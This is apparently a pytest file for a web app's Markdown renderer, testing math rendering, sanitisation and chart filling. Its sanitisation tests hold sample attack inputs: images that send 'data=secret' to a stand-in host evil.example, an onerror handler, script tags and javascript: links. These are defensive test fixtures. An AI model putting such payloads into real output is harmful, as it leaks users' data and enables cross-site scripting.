"""The answer renderer: Markdown with math, sanitised, and images that the page never fetches by itself."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from sluice.web.charts import filled
from sluice.web.markdown import cut_math, render


def test_math_is_rendered_to_mathml_and_money_and_code_are_left_alone() -> None:
    html = render("Area $\\pi r^2$ and $$\\frac{a}{b}$$ cost $5 and $10, and `$x$` is code; \\(y\\) too.")
    assert html.count("<math") == 3  # inline, display and \\( \\)
    assert 'display="block"' in html
    assert "$5 and $10" in html  # Pandoc's rule: a $ before a digit closes nothing
    assert "<code>$x$</code>" in html
    assert "<mi>π</mi>" in html


def test_math_is_cut_out_before_markdown_can_read_its_underscores_as_emphasis() -> None:
    cut, formulas = cut_math("$a_1 + b_2$")
    assert "_" not in cut and len(formulas) == 1
    assert "<em>" not in render("$a_1 + b_2$")


def test_broken_latex_shows_its_source_instead_of_failing() -> None:
    assert "\\frac{" in render("$\\frac{$")


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://evil.example/c.png?data=secret)",
        '<img src="https://evil.example/c.png?data=secret">',
        '<p><IMG SRC="https://evil.example/c.png?data=secret" onerror="alert(1)"></p>',
        "[![nested](https://evil.example/c.png?data=secret)](https://ok.example)",
    ],
)
def test_no_image_survives_as_an_image_only_as_a_link_to_click(text: str) -> None:
    html = render(text)
    assert "<img" not in html.lower()
    assert 'class="remote-image"' in html and "evil.example" in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_scripts_handlers_styles_and_javascript_links_are_removed() -> None:
    html = render(
        '<script>alert(1)</script><b onclick="x()">bold</b> [a](javascript:alert(1)) '
        '<span style="position:fixed">s</span> <iframe src="https://x.example"></iframe>'
    )
    for needle in ("<script", "onclick", "javascript:", "position:fixed", "<iframe"):
        assert needle not in html
    assert "<b>bold</b>" in html


def test_tables_and_highlighted_code_stay() -> None:
    html = render("| a | b |\n|:-|-:|\n| 1 | 2 |\n\n```python\nprint(1)\n```")
    assert "<table>" in html and 'style="text-align:right"' in html
    assert 'class="codehilite"' in html


def test_charts_have_every_day_of_the_range_with_zeros() -> None:
    rows = [{"bucket": "2026-12-02", "requests": 3, "errors": 1, "prompt_tokens": 5, "completion_tokens": 7,
             "cached_tokens": 0, "cost_nanos": 10, "latency_p50_ms": 20.0, "latency_p95_ms": 40.0}]  # fmt: skip
    points = filled(rows, "day", datetime(2026, 12, 1, tzinfo=UTC), datetime(2026, 12, 4, tzinfo=UTC))
    assert [p["label"] for p in points] == ["Dec 1", "Dec 2", "Dec 3"]
    assert [p["requests"] for p in points] == [0, 3, 0]
    assert points[0]["latency_p50_ms"] is None  # no answered request: a gap, not a zero latency
    hourly = filled([], "hour", datetime(2026, 12, 1, 22, tzinfo=UTC), datetime(2026, 12, 2, 1, tzinfo=UTC))
    assert [p["label"] for p in hourly] == ["Dec 1 22:00", "Dec 1 23:00", "Dec 2 00:00"]
